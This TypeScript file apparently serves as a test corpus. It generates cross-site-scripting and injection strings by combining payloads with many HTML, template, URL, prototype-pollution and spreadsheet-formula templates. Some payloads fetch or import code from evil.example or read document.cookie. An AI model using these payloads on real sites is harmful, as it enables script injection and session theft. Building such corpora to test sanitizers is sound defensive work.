/** Code that would leave a trace if it ran. */
const payloads = [
  'ran=1', 'alert(1)', 'window.ran=1', "fetch('//evil.example')", 'top.ran=document.cookie', 'import("//evil.example/x.js")', 'self[`ran`]=1', 'confirm`1`',
]; // biome-ignore format: a table

/** Ways to make a page run code from a text. CODE marks its place. */
const templates = [
  '<script>CODE</script>', '<ScRiPt>CODE</sCrIpT>', '<script src=//evil.example/x.js>CODE</script>', '<img src=x onerror=CODE>', '<img src=x onerror="CODE">',
  "<img/src='x'/onerror='CODE'>", '<svg onload=CODE>', '<svg><script>CODE</script></svg>', '<svg><animate onbegin=CODE attributeName=x>', '<body onload=CODE>',
  '<iframe srcdoc="<script>CODE</script>">', '<iframe src="javascript:CODE">', '<a href="javascript:CODE">x</a>', '<a href="jAvAsCrIpT&colon;CODE">x</a>', '<form action="javascript:CODE"><input type=submit>',
  '<input autofocus onfocus=CODE>', '<details open ontoggle=CODE>', '<video><source onerror=CODE>', '<audio src=x onerror=CODE>', '<object data="javascript:CODE">',
  '<embed src="javascript:CODE">', '<math href="javascript:CODE">x</math>', '<base href="//evil.example/">CODE', '<meta http-equiv=refresh content="0;url=javascript:CODE">', '<link rel=stylesheet href="//evil.example/CODE">',
  '<style>@import "//evil.example/CODE"</style>', '<template><script>CODE</script></template>', '<noscript><p title="</noscript><img src=x onerror=CODE>">', '"><script>CODE</script>', "'><script>CODE</script>",
  '" onmouseover="CODE" x="', "' onfocus='CODE' autofocus='", '</title><script>CODE</script>', '</textarea><script>CODE</script>', '</script><script>CODE</script>',
  '--><script>CODE</script>', ']]><script>CODE</script>', '$' + '{CODE}', '{{CODE}}', '#{CODE}',
  '<%= CODE %>', '{{constructor.constructor("CODE")()}}', "');CODE;//", '";CODE;//', '`;CODE;//',
  'javascript:CODE', 'data:text/html,<script>CODE</script>', '&lt;script&gt;CODE&lt;/script&gt;', '\\u003cscript\\u003eCODE\\u003c/script\\u003e', '%3Cscript%3ECODE%3C/script%3E',
  '<scr<script>ipt>CODE</scr</script>ipt>', '<<script>CODE//<</script>', '<marquee onstart=CODE>', '<select autofocus onfocus=CODE>', '<p style="background:url(javascript:CODE)">',
  '<div id=app data-base="//evil.example/">CODE</div>', '<form id=attributes><input name=CODE>', '<img name=getElementById>CODE', '<x onclick=CODE tabindex=1 id=x>', '\u202e<script>CODE</script>',
  '{"__proto__":{"ran":"CODE"}}', '[x](javascript:CODE)', '![x](x"onerror="CODE)', '<xml><x:script xmlns:x="http://www.w3.org/1999/xhtml">CODE</x:script>', '=cmd|"/c CODE"!A1',
]; // biome-ignore format: a table

/** Texts that would run or build something if a page treated them as markup, an address or code; no two are the same. */
export const hostileTexts = (): string[] =>
  templates.flatMap((template) => payloads.map((payload) => template.replaceAll('CODE', () => payload)));
